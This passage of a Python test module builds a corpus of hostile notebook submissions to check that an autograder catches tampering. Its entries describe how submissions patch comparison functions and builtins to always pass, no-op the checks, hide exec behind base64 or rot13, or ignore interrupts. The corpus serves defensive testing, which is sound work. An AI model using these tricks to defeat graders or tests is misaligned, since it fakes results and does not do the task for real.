            Expect("not graded", None, ("ignored the interrupt",)),
            """Like ks-loop-hidden, but the looping function first sets SIGINT to SIG_IGN, so
           the executor's interrupt at the cell's CPU budget has no effect: the kernel has
           to be killed ("it ignored the interrupt and the kernel was killed"): the notebook
           cannot finish, not graded.""",
        ),
        _e(
            "ks-exec-base64",
            f,
            "obfuscated-exec",
            _hostile(_exec_base64(NOOP_SETATTR), "solved", "shapes"),
            Expect(nr, shapes, ("exec", "values differ")),
            """The shapes mistake, and exec() of a base64 string that no-ops every check: the
           scan cannot read the string ("calls exec on a computed string"); no check fails
           in the kernel, the recorded shapes differ.""",
        ),
    ]


def _l1_vs_l2(m: Materials, every: frozenset[str]) -> list[Entry]:
    f = F1A
    strength = MISTAKES["strength"].failing
    near_zero = MISTAKES["near-zero"].failing
    nr = "needs review"
    return [
        _e(
            "l1-correct", f, "correct", _solved_bytes, Expect("graded"), "The instructor's answers."
        ),
        _e(
            "l1-blank",
            f,
            "blank",
            _nb(lambda m: m.blank()),
            Expect("graded", every),
            "The untouched release.",
        ),
        _e(
            "l1-wrong-strength",
            f,
            "wrong-answer",
            _solved_with(_mistake("strength")),
            Expect("graded", strength),
            MISTAKES["strength"].what,
        ),
        _e(
            "l1-isclose",
            f,
            "patch-isclose",
            _solved_with(
                _mistake("strength"),
                _extra(ISCLOSE_PATCH, "l1l2-build-l1"),
                _extra(ISCLOSE_RESTORE, "l1l2-test-l1-strength"),
            ),
            Expect(nr, strength, ("isclose", "values differ")),
            """The strength mistake, with math.isclose patched to always say True between the
           answer and the strength test (put back afterwards): check_regularizer compares
           strengths with math.isclose, so no check fails in the kernel; the recorded
           strengths (0.01 for every lam) differ from the reference.""",
        ),
        _e(
            "l1-noop-check-close",
            f,
            "noop-checks",
            _solved_with(
                _mistake("near-zero"),
                _extra(
                    _NOOP_CHECK_CLOSE,
                    "l1l2-fraction-near-zero",
                ),
            ),
            Expect(nr, near_zero, ("check_close", "values differ")),
            """The near-zero mistake (< instead of <=), with grading.check_close no-op'd: the
           fraction test shows no error; the recorded fractions differ.""",
        ),
        _e(
            "l1-exec-rot13",
            f,
            "obfuscated-exec",
            _solved_with(_mistake("strength"), _extra(_exec_rot13(ROT13_PATCH), "l1l2-build-l1")),
            Expect(nr, strength, ("values differ",)),
            """The strength mistake, with check_regularizer no-op'd by exec'ing a rot13 string
           through getattr(__builtins__, "ex" + "ec"): no `exec` in the text. The evidence
           (the strengths) differs: needs review whatever the scan sees.""",
        ),
        _e(
            "l1-edited-test",
            f,
            "edited-locked",
            _solved_with(_mistake("strength"), _set_source("l1l2-test-l1-strength", "pass")),
            Expect("graded", strength, ("edited",)),
            """The strength mistake, and the strength test replaced by `pass`: nbgrader
           restores the locked cell, which fails.""",
        ),
    ]


def _rotated(m: Materials, every: frozenset[str]) -> list[Entry]:
    f = F2
    nr = "needs review"
    recovered = MISTAKES["recovered"].failing
    return [
        _e(
            "rot-correct",
            f,
            "correct",
            _solved_bytes,
            Expect("graded"),
            "The instructor's answers.",
        ),
        _e(
            "rot-blank",
            f,
            "blank",
            _nb(lambda m: m.blank()),
            Expect("graded", every),
            "The untouched release.",
        ),
        _e(
            "rot-wrong-sign",
            f,
            "wrong-answer",
            _solved_with(_mistake("sign")),
            Expect("graded", MISTAKES["sign"].failing),
            MISTAKES["sign"].what,
        ),
        _e(
            "rot-allclose",
            f,
            "patch-isclose",
            _solved_with(
                _mistake("seed"),
                _extra(ALLCLOSE_PATCH, "rotated-rotate-test-set"),
                _extra(ALLCLOSE_RESTORE, "rotated-test-rotate-seeds-ranges"),
            ),
            Expect(nr, MISTAKES["seed"].failing, ("allclose", "values differ")),
            """The seed mistake (seeds clamped to 3, so seeds 7 and 8 agree), with np.allclose
           patched to say False until after the seeds test: "different seeds should give
           different angles" passes in the kernel. The cell fails only if its evidence holds
           the angles themselves: a boolean computed in the kernel with np.allclose is forged
           by the same patch (the scan still asks for a review).""",
        ),
        _e(
            "rot-builtins-abs",
            f,
            "builtins",
            _solved_with(
                _mistake("recovered"),
                _extra(ABS_PATCH, "rotated-recovered-fraction"),
                _extra(ABS_RESTORE, "rotated-test-recovered-fraction"),
            ),
            Expect(nr, recovered, ("builtins", "values differ")),
            """The recovered-fraction mistake, with builtins.abs replaced by `lambda value: 0`
           for the test cell: check_close's |actual - expected| <= tol always holds, no
           error in the kernel; the recorded fractions differ.""",
        ),
        _e(
            "rot-fake-module",
            f,
            "fake-module",
            _solved_with(_mistake("percent"), _extra(FAKE_MODULE, "setup")),
            Expect(nr, MISTAKES["percent"].failing, ("sys.modules", "values differ")),
            """The percentage mistake, with a stand-in helpers.grading (checks no-op'd) in
           sys.modules: no error; the recorded accuracies (×100) differ.""",
        ),
        _e(
            "rot-loop-no-drop",
            f,
            "infinite-loop",
            _solved_with(_in_solution("rotated-recovered-fraction", LOOP_WITHOUT_DROP)),
            Expect("graded", recovered, ("interrupted",)),
            """recovered_fraction loops forever when acc_orig < acc_rot, which only a hidden
           check_raises asks for: that test cell is interrupted on its CPU budget (0), the
           summary cell after it and every other test keep working.""",
        ),
    ]


def entries(family: str | None = None, root: Path = REPO) -> list[Entry]:
    """The corpus (or the entries of one family), built from the notebooks under ``root``."""
    families = FAMILIES if family is None else (family,)
    found: list[Entry] = []
    for name in families:
        if name not in FAMILIES:
            raise ValueError(f"unknown family {name!r}; choose from {', '.join(FAMILIES)}")
        found += _family_entries(name, load_materials(name, root))
    return found


def write_corpus(
    dest: Path, families: Iterable[str] | None = None, root: Path = REPO
) -> list[Entry]:
    """Write ``dest/submitted/<name>/<family>/<filename>`` for every entry of ``families``
    (default: all); the notebooks are derived from the course at ``root``. Returns the entries."""
    written: list[Entry] = []
    for family in FAMILIES if families is None else tuple(families):
        materials = load_materials(family, root)
        for entry in entries(family, root):
            folder = Path(dest) / "submitted" / entry.name / entry.family
            folder.mkdir(parents=True, exist_ok=True)
            (folder / entry.filename).write_bytes(entry.build(materials))
            written.append(entry)
    return written


def table(items: Iterable[Entry]) -> str:
    """A plain-text table of entries: name, family, class, status, failing cells, reasons."""
    rows = [("name", "family", "class", "status", "failing", "reasons")]
    for e in items:
        failing = "-" if e.expect.failing is None else ", ".join(sorted(e.expect.failing)) or "{}"
        rows.append(
            (e.name, e.family, e.cls, e.expect.status, failing, ", ".join(e.expect.reasons))
        )
    widths = [max(len(row[i]) for row in rows) for i in range(5)]
    return "\n".join(
        "  ".join(cell.ljust(widths[i]) if i < 5 else cell for i, cell in enumerate(row)).rstrip()
        for row in rows
    )


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m tests.grader.corpus.make_corpus",
        description="Write the hostile-submission corpus as DEST/submitted/<id>/<assignment>/.",
    )
    parser.add_argument("dest", type=Path, help="a course directory (or any folder)")
    parser.add_argument("--family", action="append", choices=FAMILIES, help="only this practice")
    parser.add_argument("--root", type=Path, default=REPO, help="the course to read notebooks from")
    args = parser.parse_args(argv)
    written = write_corpus(args.dest, args.family, args.root)
    print(table(written))
    print(f"\n{len(written)} submission(s) written under {args.dest / 'submitted'}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
